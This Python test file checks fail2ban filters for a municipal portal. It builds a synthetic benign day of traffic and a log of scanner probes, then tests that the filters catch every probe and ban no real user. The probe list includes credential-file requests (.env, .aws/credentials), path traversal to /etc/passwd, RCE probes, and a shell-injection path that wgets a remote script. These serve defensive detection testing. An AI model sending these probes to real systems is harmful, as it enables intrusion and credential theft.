"""deploy/fail2ban/: each filter with fail2ban-regex against an attack log (every line must match)
and a day of municipal traffic (no line may match), and the jails with `fail2ban-client -t`.

The benign log is made here, deterministically: 12,000+ combined-format lines of a working day in
which ~300 local governments reach the portal through five prefectural gateways (60 each) and a
few of their own addresses. It has what real people do: pages, files, logins with typos and the
app's 429 when an address is slowed (decision 0017), TOTP, password resets, forms, 404s of old or
mistyped addresses, favicon and robots.txt, uploads in the admin, an oversized upload (413), a
short outage (502/503), crawlers. fail2ban must never ban such an address (decision 0025).
"""

import os
import random
import re
import shutil
import subprocess
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[3]
FAIL2BAN = ROOT / "deploy" / "fail2ban"
JST = timezone(timedelta(hours=9))
GATEWAYS = ["203.0.113.10", "203.0.113.11", "203.0.113.12", "203.0.113.13", "2001:db8:10::1"]
OWN_ADDRESSES = [f"198.51.100.{n}" for n in range(20, 50)] + ["2001:db8:20::5", "2001:db8:21::9"]
AGENCY = "192.0.2.80"
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
]
CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SITE = "https://portal.example.go.jp"
JA = "%E5%85%90%E7%AB%A5%E7%A6%8F%E7%A5%89"  # 児童福祉, as a browser sends it

# (method, path, status, weight): what one person's request can be.
VISITS = [
    ("GET", "/", 200, 30),
    ("GET", "/news/", 200, 15),
    ("GET", "/news/2026/11/kaigi-kaisai/", 200, 10),
    ("GET", "/news/?page=2", 200, 3),
    ("GET", "/static/css/portal.css", 200, 20),
    ("GET", "/static/css/portal.css", 304, 20),
    ("GET", "/static/js/menu.js", 200, 10),
    ("GET", "/media/images/kodomo.width-800.jpg", 200, 8),
    ("GET", "/login/", 200, 12),
    ("POST", "/login/", 302, 10),
    ("POST", "/login/", 200, 6),  # a typo: the form again
    ("POST", "/login/", 429, 1),  # the app slowed the gateway's address (decision 0017)
    ("GET", "/login/totp/", 200, 1),
    ("POST", "/login/totp/", 302, 1),
    ("POST", "/logout/", 302, 3),
    ("GET", "/members/", 200, 15),
    ("GET", "/members/roundtables/?tag=" + JA, 200, 4),
    ("GET", "/members/initiatives/", 200, 4),
    ("GET", "/members/images/3f9a2c4be1d04f0a9b7c2d1e0f6a5b4c.jpg", 200, 8),
    ("GET", "/documents/12/%E8%B3%87%E6%96%99.pdf", 200, 6),
    ("GET", "/documents/31/roundtable.mp4", 206, 4),
    ("GET", "/documents/40/roster.xlsx", 200, 1),
    ("GET", "/documents/41/handout.pptx", 200, 1),
    ("GET", "/search/?q=" + JA, 200, 5),
    ("GET", "/feed.atom", 200, 2),
    ("GET", "/sitemap.xml", 200, 1),
    ("GET", "/account/", 200, 2),
    ("POST", "/account/", 302, 1),
    ("GET", "/password-reset/", 200, 1),
    ("POST", "/password-reset/", 302, 1),
    ("POST", "/password-reset/", 429, 1),
    ("GET", "/members/tips/", 200, 4),
    ("POST", "/members/tips/3/", 302, 2),
    ("POST", "/members/feedback/", 302, 1),
    ("POST", "/members/tips/3/", 413, 1),
    # 404s of real users: old bookmarks, typos, browser habits.
    ("GET", "/favicon.ico", 404, 6),
    ("GET", "/apple-touch-icon.png", 404, 2),
    ("GET", "/apple-touch-icon-precomposed.png", 404, 2),
    ("GET", "/robots.txt", 200, 1),
    ("GET", "/news/2019/%E5%8F%A4%E3%81%84%E3%81%8A%E7%9F%A5%E3%82%89%E3%81%9B/", 404, 2),
    ("GET", "/members/old-page/", 404, 2),
    ("GET", "/documents/999/old.pdf", 404, 1),
    ("GET", "/index.html", 404, 1),
    ("GET", "/top.html", 404, 1),
    ("GET", "/static/css/old-portal.css", 404, 1),
    ("GET", "/.well-known/security.txt", 404, 1),
    ("GET", "/.well-known/change-password", 404, 1),
    ("GET", "/news/2026/11/kaigi-kaisai", 301, 1),
    ("GET", "/members/tips/3/?page=999", 404, 1),
    ("HEAD", "/", 200, 1),
    ("GET", "/", 502, 1),
    ("GET", "/members/", 503, 1),  # a deploy
]
ADMIN_VISITS = [
    ("GET", "/admin/", 200, 10),
    ("GET", "/admin/pages/12/edit/", 200, 6),
    ("POST", "/admin/pages/12/edit/preview/", 200, 10),
    ("POST", "/admin/pages/12/edit/", 302, 3),
    ("POST", "/admin/documents/multiple/add/", 200, 2),
    ("POST", "/admin/images/multiple/add/", 200, 2),
    ("GET", "/admin/meetings/", 200, 2),
    ("POST", "/admin/local-government-accounts/import/", 200, 1),
    ("GET", "/django-admin/core/auditevent/", 200, 1),
    ("POST", "/admin/documents/multiple/add/", 413, 1),
]

ATTACKS = [
    ("GET", "/wp-login.php", 404),
    ("GET", "/wp-admin/setup-config.php", 404),
    ("POST", "/xmlrpc.php", 404),
    ("GET", "/.env", 404),
    ("GET", "/api/.env", 404),
    ("GET", "/.git/config", 404),
    ("GET", "/.git/HEAD", 404),
    ("GET", "/phpmyadmin/index.php", 404),
    ("GET", "/pma/", 404),
    ("GET", "/cgi-bin/luci/;stok=/locale", 404),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("POST", "/boaform/admin/formLogin", 404),
    ("GET", "/HNAP1/", 404),
    ("GET", "/actuator/env", 404),
    ("GET", "/server-status", 404),
    ("GET", "/manager/html", 404),
    ("GET", "/solr/admin/info/system?wt=json", 404),
    ("GET", "/owa/auth/logon.aspx", 404),
    ("GET", "/remote/login?lang=en", 404),
    ("GET", "/+CSCOE+/logon.html", 404),
    ("POST", "/_ignition/execute-solution", 404),
    ("POST", "/api/jsonws/invoke", 404),
    ("GET", "/static/../../../../etc/passwd", 400),
    ("GET", "/%2e%2e/%2e%2e/etc/passwd", 400),
    ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array", 404),
    ("GET", "/config.php.bak", 404),
    ("GET", "/backup.sql", 404),
    ("GET", "/.aws/credentials", 404),
    ("GET", "/.DS_Store", 404),
    ("GET", "/docker-compose.yml", 404),
    ("GET", "/shell?cd+/tmp;wget+http://198.51.100.66/x.sh", 404),
    ("GET", "/console/login/LoginForm.jsp", 404),
    ("GET", "/jenkins/login", 404),
    ("GET", "/struts2-showcase/index.action", 404),
    ("GET", "/.htaccess", 404),
    ("GET", "/.svn/entries", 404),
    ("GET", "/wp-content/plugins/revslider/temp/update_extract/x.php", 404),
    ("GET", "/test.cgi", 404),
    ("GET", "/login.action", 404),
    ("GET", "/index.jsp", 404),
    ("GET", "/admin/config.php", 404),
    ("PROPFIND", "/webdav/", 404),
    ("GET", "/.vscode/sftp.json", 404),
    ("GET", "/wp-json/wp/v2/users", 404),
]


def fail2ban_regex() -> str:
    found = shutil.which("fail2ban-regex")
    assert found, "fail2ban-regex is missing: install Debian's fail2ban package (make test-tools)"
    return found


def combined(address, when, method, path, status, size, referrer, agent) -> str:
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S %z")
    return f'{address} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'


def municipal_day(lines: int = 12_500, seed: int = 20261207) -> list[str]:
    rng = random.Random(seed)
    when = datetime(2026, 12, 7, 8, 30, tzinfo=JST)
    step = timedelta(seconds=(9.5 * 3600) / lines)
    out = []
    choices, weights = [v[:3] for v in VISITS], [v[3] for v in VISITS]
    admin, admin_weights = [v[:3] for v in ADMIN_VISITS], [v[3] for v in ADMIN_VISITS]
    for _ in range(lines):
        when += step
        roll = rng.random()
        if roll < 0.08:
            address, (method, path, status) = AGENCY, rng.choices(admin, admin_weights)[0]
            agent = BROWSERS[0]
        elif roll < 0.11:
            address, agent = "66.249.66.1", CRAWLER
            method, path, status = rng.choice(
                [
                    ("GET", "/robots.txt", 200),
                    ("GET", "/", 200),
                    ("GET", "/news/", 200),
                    ("GET", "/sitemap.xml", 200),
                    ("GET", "/members/", 302),
                ]
            )
        else:
            address = rng.choice(GATEWAYS) if roll < 0.85 else rng.choice(OWN_ADDRESSES)
            method, path, status = rng.choices(choices, weights)[0]
            agent = rng.choice(BROWSERS)
        referrer = rng.choice(
            ["-", f"{SITE}/", f"{SITE}/members/", f"{SITE}/news/", "https://www.example.lg.jp/kosodate/"]
        )
        out.append(combined(address, when, method, path, status, rng.randint(0, 90_000), referrer, agent))
    return out


def attack_log() -> list[str]:
    when = datetime(2026, 12, 7, 3, 12, tzinfo=JST)
    out = []
    for n, (method, path, status) in enumerate(ATTACKS):
        address = ["45.148.10.7", "2001:db8:bad::7", "203.0.113.200"][n % 3]
        out.append(
            combined(address, when + timedelta(seconds=n), method, path, status, 162, "-", "Mozilla/5.0 zgrab/0.x")
        )
    out.append(combined("45.148.10.7", when, "CONNECT", "www.example.com:443", 400, 0, "-", "-"))
    out.append(combined("45.148.10.7", when, "GET", "http://www.example.com/", 400, 0, "-", "-"))
    return out


def refused_log() -> list[str]:
    """A flood on /login/ from one address, a connection flood, and the catch-all's 444s."""
    when = datetime(2026, 12, 7, 10, 0, tzinfo=JST)
    out = []
    for n in range(60):
        stamp = (when + timedelta(milliseconds=40 * n)).isoformat(timespec="seconds")
        limit = "REJECTED/-" if n % 4 else "-/REJECTED"
        out.append(
            f'{stamp} client=198.51.100.99 status=429 limit={limit} host="portal.example.go.jp" '
            f'request="POST /login/" request_id=0{n:031x}'
        )
    for n in range(10):
        stamp = (when + timedelta(seconds=n)).isoformat(timespec="seconds")
        out.append(
            f'{stamp} client=2001:db8:bad::9 status=444 limit=-/- host="203.0.113.1" '
            f'request="GET /" request_id=0{n:031x}'
        )
    return out


def regex_counts(log: Path, filter_name: str) -> tuple[int, int]:
    """(lines, matched) as fail2ban-regex counts them with the filter file of deploy/fail2ban/."""
    result = subprocess.run(
        [fail2ban_regex(), str(log), str(FAIL2BAN / "filter.d" / f"{filter_name}.conf")],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    found = re.search(r"^Lines: (\d+) lines, (\d+) ignored, (\d+) matched, (\d+) missed", result.stdout, re.M)
    assert found, result.stdout
    lines, ignored, matched, missed = map(int, found.groups())
    assert ignored == 0
    return lines, matched


@pytest.fixture(scope="module")
def logs(tmp_path_factory):
    folder = tmp_path_factory.mktemp("fail2ban")
    paths = {
        "benign": folder / "municipal-access.log",
        "scan": folder / "scan-access.log",
        "refused": folder / "refused.log",
    }
    paths["benign"].write_text("\n".join(municipal_day()) + "\n", encoding="utf-8")
    paths["scan"].write_text("\n".join(attack_log()) + "\n", encoding="utf-8")
    paths["refused"].write_text("\n".join(refused_log()) + "\n", encoding="utf-8")
    return paths


def test_the_municipal_day_is_what_the_brief_says(logs):
    lines = logs["benign"].read_text(encoding="utf-8").splitlines()
    assert len(lines) >= 10_000
    assert len({line.split()[0] for line in lines}) < 50  # few addresses for hundreds of local governments
    statuses = [line.split('"')[2].split()[0] for line in lines]
    assert statuses.count("404") > 300 and statuses.count("429") > 20 and statuses.count("413") > 10
    assert sum(1 for line in lines if '"POST /login/ HTTP/1.1" 200' in line) > 200  # login failures


@pytest.mark.parametrize("filter_name,attack", [("kokasen-scan", "scan"), ("kokasen-refused", "refused")])
def test_each_filter_matches_every_attack_line_and_no_municipal_line(logs, filter_name, attack):
    lines, matched = regex_counts(logs[attack], filter_name)
    assert (lines, matched) == (len(logs[attack].read_text().splitlines()), lines), filter_name
    lines, matched = regex_counts(logs["benign"], filter_name)
    assert lines >= 10_000 and matched == 0, filter_name


def test_the_scan_filter_misses_what_nginx_logs_for_real_people(logs, tmp_path):
    """Lines as the JSON-less combined log has them for the portal's own paths: none match."""
    ordinary = [
        combined("203.0.113.10", datetime(2026, 12, 7, 9, tzinfo=JST), "GET", path, 404, 10, "-", BROWSERS[0])
        for path in (
            "/documents/12/report.pdf",
            "/members/images/a1b2.png",
            "/static/wagtailadmin/js/core.js",
            "/admin/login/",
            "/login/?next=/admin/",
            "/.well-known/acme-challenge/x",
            "/feed.atom",
        )
    ]
    log = tmp_path / "ordinary.log"
    log.write_text("\n".join(ordinary) + "\n", encoding="utf-8")
    assert regex_counts(log, "kokasen-scan") == (len(ordinary), 0)


def test_the_jails_load_with_debians_fail2ban(tmp_path):
    client = shutil.which("fail2ban-client")
    assert client, "fail2ban-client is missing: install Debian's fail2ban package (make test-tools)"
    conf = tmp_path / "fail2ban"
    shutil.copytree("/etc/fail2ban", conf)
    (conf / "jail.d" / "defaults-debian.conf").unlink(missing_ok=True)  # its sshd jail needs the journal
    for path in (FAIL2BAN / "filter.d").iterdir():
        shutil.copyfile(path, conf / "filter.d" / path.name)
    logs_dir = tmp_path / "logs"
    logs_dir.mkdir()
    for name in ("access.log", "refused.log"):
        (logs_dir / name).touch()
    jail = (FAIL2BAN / "jail.d" / "kokasen.conf").read_text(encoding="utf-8")
    assert jail.count("/var/log/nginx/kokasen/") == 2
    (conf / "jail.d" / "kokasen.conf").write_text(jail.replace("/var/log/nginx/kokasen/", f"{logs_dir}/"))
    result = subprocess.run(
        [client, "-c", str(conf), "-t"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "LANG": "C.UTF-8"},
    )
    assert "OK: configuration test is successful" in result.stdout + result.stderr, result.stdout + result.stderr
    dump = subprocess.run([client, "-c", str(conf), "-d"], capture_output=True, text=True, timeout=120).stdout
    jails = set(re.findall(r"\['add', '([\w-]+)'", dump))
    assert {"kokasen-scan", "kokasen-refused"} <= jails
    # No filter looks at the portal's login page (/login/): login failures never lead to a ban.
    for path in (FAIL2BAN / "filter.d").iterdir():
        definition = path.read_text(encoding="utf-8").split("[Definition]", 1)[1]
        assert "/login/" not in definition and "/password-reset/" not in definition, path.name
